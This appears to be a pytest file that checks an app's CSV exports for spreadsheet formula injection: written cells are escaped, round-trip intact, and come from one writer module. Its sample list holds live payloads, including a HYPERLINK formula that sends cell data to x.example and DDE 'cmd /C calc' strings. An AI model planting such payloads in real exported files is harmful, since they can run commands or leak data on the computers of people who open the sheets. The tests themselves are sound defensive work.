"""No cell of a table that somebody opens in a spreadsheet program is a formula, wherever its words are from."""

import ast
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.analytics.report import write_csv
from app.analytics.service import Analytics, DayFigures, Seconds, TypeFigures
from app.core.spreadsheet import START, TableWriter, escaped, unescaped
from app.extraction import Record, extract_records
from app.extraction.tables import convert, line_of
from app.models import Product, TaskType, utc_now

APP = Path(__file__).parents[1] / "app"
FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"Buy")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
    "＝1+1", "=", "-", "'=1",
]  # fmt: skip
NUMBERS = ["-5", "+4.50", "-1e9", "12"]
DANGEROUS = tuple(START)


def is_formula(cell: str) -> bool:
    """Tell whether a spreadsheet program would compute a cell."""
    return cell.startswith(DANGEROUS) and cell not in NUMBERS


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_shown_as_text(text: str) -> None:
    file = io.StringIO()
    TableWriter(file).row([text, 1, -2.5, None, *NUMBERS])
    (cells,) = csv.reader(io.StringIO(file.getvalue(), newline=""))
    assert not is_formula(cells[0])
    assert cells[1:] == ["1", "-2.5", "", *NUMBERS]
    assert unescaped(cells[0]) == text


@given(st.text())
def test_nothing_is_lost(text: str) -> None:
    assert unescaped(escaped(text)) == text


@pytest.mark.parametrize("text", [FORMULAS[0], "-2+3", "@SUM(A1)"])
def test_the_products_of_a_feed_come_as_text_and_are_read_again_as_they_were(tmp_path: Path, text: str) -> None:
    product = Product(
        title=text, description=f"{text} and more", features=[text, "plain"], specs={text: text}, price=Decimal(5)
    )
    (tmp_path / "products.ndjson").write_bytes(line_of(Record(1, product)))
    convert(tmp_path / "products.ndjson", tmp_path / "products.csv", "csv")
    with (tmp_path / "products.csv").open(newline="", encoding="utf-8") as file:
        assert not any(is_formula(cell) for row in csv.reader(file) for cell in row)
    with (tmp_path / "products.csv").open("rb") as source:
        (record,) = extract_records(source, "csv", None)
    assert record.product is not None
    assert (record.product.title, record.product.price) == (product.title, Decimal(5))
    assert record.product.features == product.features


def test_the_report_holds_none_either() -> None:
    """The names of steps are words of what ran."""
    spent = Seconds(count=1, p50=1, p95=1, p99=1)
    kind = TypeFigures(task_type=TaskType.SCRAPING, seconds=spent, waited=spent, steps={"=cmd|' /C calc'!A0": spent})
    found = Analytics(
        first=utc_now(),
        last=utc_now(),
        user_id=None,
        totals=DayFigures(day="2024-01-01"),
        types=[kind],
        days=[],
        reasons=[],
        waiting={},
    )
    rows = list(csv.reader(io.StringIO(write_csv(found))))
    assert any("cmd" in cell for row in rows for cell in row)
    assert not any(is_formula(cell) for row in rows for cell in row)


def test_one_place_writes_tables() -> None:
    writers = set()
    for path in APP.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if isinstance(node, ast.Attribute) and ast.unparse(node) in ("csv.writer", "csv.DictWriter"):
                writers.add(path.relative_to(APP).as_posix())
    assert writers == {"core/spreadsheet.py"}
